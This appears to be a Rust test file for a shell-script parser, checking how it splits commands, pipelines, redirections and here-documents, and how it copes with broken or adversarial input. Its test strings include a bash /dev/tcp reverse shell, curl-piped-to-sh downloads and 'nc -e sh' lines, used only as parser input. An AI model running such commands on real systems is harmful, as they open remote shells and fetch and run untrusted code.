use super::*;

/// Words of each command, with expansions in a short notation.
fn read(text: &str) -> Vec<Vec<String>> {
    let script = parse(text);
    script
        .commands
        .iter()
        .map(|c| c.words.iter().map(shown).collect())
        .collect()
}

fn shown(word: &Word) -> String {
    word.parts
        .iter()
        .map(|part| match part {
            Part::Literal { text, .. } => text.clone(),
            Part::Variable {
                name, operation, ..
            } => format!("<{name}{operation}>"),
            Part::Output { substitution, .. } => format!("<#{substitution}>"),
            Part::Arithmetic { text } => text.clone(),
        })
        .collect()
}

fn check(text: &str, expected: &[&[&str]]) {
    assert_eq!(read(text), expected, "{text}");
}

#[test]
fn lists_pipes_and_quotes_are_split_as_a_shell_does() {
    check("a 'b c' \"d e\" f\\ g", &[&["a", "b c", "d e", "f g"]]);
    check(
        "a|b && c;d & e # f\ng",
        &[&["a"], &["b"], &["c"], &["d"], &["e"], &["g"]],
    );
    check("(a; b)", &[&["a"], &["b"]]);
    check("{ a; b; } && ! c", &[&["a"], &["b"], &["c"]]);
    check(
        "if a; then b; elif c; then d; else e; fi",
        &[&["a"], &["b"], &["c"], &["d"], &["e"]],
    );
    check(
        "while read l; do a \"$l\"; done",
        &[&["read", "l"], &["a", "<l>"]],
    );
    check("f() { a; }; f", &[&["a"], &["f"]]);
    check("case $x in a) b;; *) c;; esac", &[&["b"], &["c"]]);
    check(
        "[ -f x ] && [[ $y == z ]]",
        &[&["[", "-f", "x"], &["[", "<y>", "z"]],
    );
    check("c''at $'\\x2fetc' \"a\"b'c'", &[&["cat", "/etc", "abc"]]);
}

#[test]
fn assignments_expansions_and_loops_are_kept() {
    let script = parse("x=1 y+=2 a ${b:0:1} \"${c//x/}\"; for i in p q; do d $i; done");
    let names: Vec<(&str, bool)> = script.commands[0]
        .assignments
        .iter()
        .map(|a| (a.name.as_str(), a.appends))
        .collect();
    assert_eq!(names, [("x", false), ("y", true)]);
    assert_eq!(
        script.commands[0]
            .words
            .iter()
            .map(shown)
            .collect::<Vec<_>>(),
        ["a", "<b:0:1>", "<c//x/>"]
    );
    let inner = script
        .commands
        .iter()
        .find(|c| c.words.first().map(shown).as_deref() == Some("d"))
        .unwrap();
    assert!(inner.in_loop);
    assert!(script.commands.iter().any(|c| {
        c.assignments
            .iter()
            .any(|a| a.name == "i" && shown(&a.value) == "p")
    }));
    let export = parse("export A=b C");
    assert_eq!(export.commands[0].assignments[0].name, "A");
    assert_eq!(shown(&export.commands[0].words[0]), "export");
}

#[test]
fn pipelines_and_substitutions_are_numbered() {
    let script = parse("curl u | tr a b | sh; x $(y | z) <(w)");
    let stages: Vec<(usize, usize)> = script
        .commands
        .iter()
        .map(|c| (c.pipeline, c.stage))
        .collect();
    assert_eq!(stages[0].0, stages[2].0);
    assert_eq!([stages[0].1, stages[1].1, stages[2].1], [0, 1, 2]);
    // Inner commands end before the outer.
    assert_eq!(
        read("x $(y | z) <(w)"),
        [vec!["y"], vec!["z"], vec!["w"], vec!["x", "<#0>", "<#1>"]]
    );
    assert_eq!(script.commands[3].inside, Some(0));
    assert!(script.substitutions[1].is_stream && !script.substitutions[0].is_stream);
    let group = parse("curl u | (cd /; bash)");
    assert_eq!(group.commands[0].pipeline, group.commands[2].pipeline);
    assert_eq!(group.commands[2].stage, 1);
    assert_eq!(parse("a `b`").commands[0].inside, Some(0));
}

#[test]
fn redirections_have_descriptor_kind_and_target() {
    let script = parse("bash -i >& /dev/tcp/h/1 0>&1 2>>log <in");
    let found: Vec<(Option<u32>, RedirectKind, String)> = script.commands[0]
        .redirects
        .iter()
        .map(|r| (r.fd, r.kind, shown(&r.target)))
        .collect();
    use RedirectKind::*;
    let expected = [
        (None, Duplicate, "/dev/tcp/h/1"),
        (Some(0), Duplicate, "1"),
        (Some(2), Append, "log"),
        (None, Read, "in"),
    ];
    let expected: Vec<(Option<u32>, RedirectKind, String)> = expected
        .into_iter()
        .map(|(fd, kind, target)| (fd, kind, target.to_owned()))
        .collect();
    assert_eq!(found, expected);
    let group = parse("{ a; b; } > f");
    assert!(group.commands.iter().all(|c| c.redirects.len() == 1));
    assert_eq!(parse("a | b > f").commands[0].redirects.len(), 0);
}

#[test]
fn here_documents_belong_to_their_command_and_the_pipe_goes_on() {
    let script = parse("cat <<E | sh\nid $x\nE\n");
    let cat = &script.commands[script.commands.len() - 2..];
    let by_name = |name: &str| {
        script
            .commands
            .iter()
            .find(|c| c.words.first().map(shown).as_deref() == Some(name))
            .unwrap()
    };
    assert_eq!(cat.len(), 2);
    let (cat, sh) = (by_name("cat"), by_name("sh"));
    assert_eq!((cat.pipeline, cat.stage + 1), (sh.pipeline, sh.stage));
    assert_eq!(shown(&cat.redirects[0].target), "id <x>\n");
    let verbatim = parse("bash <<'E' > out\necho $x\nE\n");
    let texts: Vec<String> = verbatim.commands[0]
        .redirects
        .iter()
        .map(|r| shown(&r.target))
        .collect();
    assert!(
        texts.contains(&"echo $x\n".to_owned()) && texts.contains(&"out".to_owned()),
        "{texts:?}"
    );
    assert_eq!(
        shown(&parse("sh <<< 'id -u'").commands[0].redirects[0].target),
        "id -u"
    );
}

#[test]
fn broken_text_is_read_as_far_as_it_goes() {
    for text in [
        "curl http://x | sh )",
        "if true; then nc -e sh h",
        "echo 'a; nc -l",
        "nc h 1 ;; )(",
    ] {
        let script = parse(text);
        assert!(script.broken, "{text}");
        let known = ["curl", "nc", "echo"];
        assert!(
            script
                .commands
                .iter()
                .any(|c| c.words.iter().any(|w| known.contains(&shown(w).as_str()))),
            "{text}: {:?}",
            read(text)
        );
    }
}

#[test]
fn any_text_is_read_within_the_caps() {
    for hostile in [
        "$(",
        "`",
        "((",
        "(",
        "\"$(",
        "<(",
        "{",
        "${",
        "<<a\n",
        "<<a <<b\n",
        "if ",
        "|",
        "\\",
        "<<<",
        "case x in ",
        "'",
        "a[",
        "f(){",
        "&&",
        "$((",
        "[[ ",
        "((((",
        ">&",
        "a|",
    ] {
        let n_bytes = if matches!(hostile, "$(" | "((((" | "<<a\n" | ">&" | "a|") {
            40_000
        } else {
            8_000
        };
        let text = hostile.repeat(n_bytes / hostile.len());
        let script = parse(&text);
        assert!(script.commands.len() <= 2 * 1024, "{hostile}");
        let with_tail = parse(&format!("nc -l 1\n{text}"));
        assert!(
            with_tail
                .commands
                .iter()
                .any(|c| c.words.first().is_some_and(|w| shown(w) == "nc")),
            "{hostile}"
        );
    }
}

/// Texts made of shell pieces at random: nothing may panic or take long.
#[test]
fn random_shell_soup_is_read() {
    const PIECES: [&str; 30] = [
        "$(",
        ")",
        "`",
        "\"",
        "'",
        "<<E\n",
        "\nE\n",
        "|",
        "&&",
        ";",
        "{",
        "}",
        "${x",
        "if ",
        "fi",
        "case ",
        "esac",
        "for i in ",
        "do ",
        "done",
        "a",
        "b=c ",
        ">",
        "<(",
        "((",
        "))",
        "\\",
        "$'",
        "é\u{200b}",
        "#",
    ];
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..600 {
        let mut text = String::new();
        for _ in 0..40 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            text.push_str(PIECES[usize::try_from(state >> 33).unwrap() % PIECES.len()]);
        }
        parse(&text);
    }
}
